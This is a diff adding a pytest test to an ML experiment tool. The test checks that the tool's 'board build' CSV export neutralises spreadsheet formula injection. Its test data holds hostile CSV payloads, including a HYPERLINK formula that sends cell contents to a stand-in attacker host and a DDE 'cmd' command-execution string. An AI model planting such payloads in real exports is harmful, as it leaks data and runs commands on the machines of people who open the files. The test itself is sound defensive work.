@@ -403,3 +403,39 @@ def test_the_allowlist_holds_objects_not_names():
                              allow=allow) == []
     # a name under a trusted prefix that is not one of the plugin classes is still refused
     assert untrusted_targets({"_target_": f"{hydra_plugins}.basic_launcher.run_job"}, allow=allow)
+
+
+# -- exported data: a record's strings never reach runs.csv as a formula -------------------------------------------
+
+def test_runs_csv_from_hostile_records_holds_no_formula_cell(tmp_path):
+    """Records as a downloaded sweep might hold them (formulas in the algo name, notes, overrides, config keys and
+    metric names), through ``alignzoo board build``: read back with a CSV reader, no cell starts with a formula
+    character unless it is a number the board wrote (a finite float such as -0.057 is data, not a formula)."""
+    import csv
+    import json
+
+    from alignzoo.cli import main
+
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    for i, f in enumerate(formulas):
+        job = tmp_path / "runs" / f"job{i}"
+        job.mkdir(parents=True)
+        rec = {"run_id": f, "status": "ok", "algo": f, "task": f, "model": f, "budget": f, "seed": i,
+               "config": {"seed": i, "algo": {"name": f, f: f}}, "overrides": [f, f"algo={f}"],
+               "metrics": {"eval/gold_reward": -0.057 * (i + 1), f: 1.0}, "history": [], "notes": [f],
+               "wall_time_s": 1.0, "tokens": 10, "started_at": f, "schema_version": 1}
+        (job / "record.json").write_text(json.dumps(rec))
+    with pytest.raises(SystemExit) as exit_:
+        main(["board", "build", str(tmp_path / "runs"), "--out", str(tmp_path / "board")])
+    assert exit_.value.code in (0, None)
+    with open(tmp_path / "board" / "runs.csv", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+
+    def number(cell: str) -> bool:
+        try:
+            return float(cell) == float(cell) and abs(float(cell)) != float("inf")
+        except ValueError:
+            return False
+
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not number(c)] == []
+    assert sum(c.startswith("'") for c in cells) >= 6 * len(formulas)  # every hostile string was neutralized
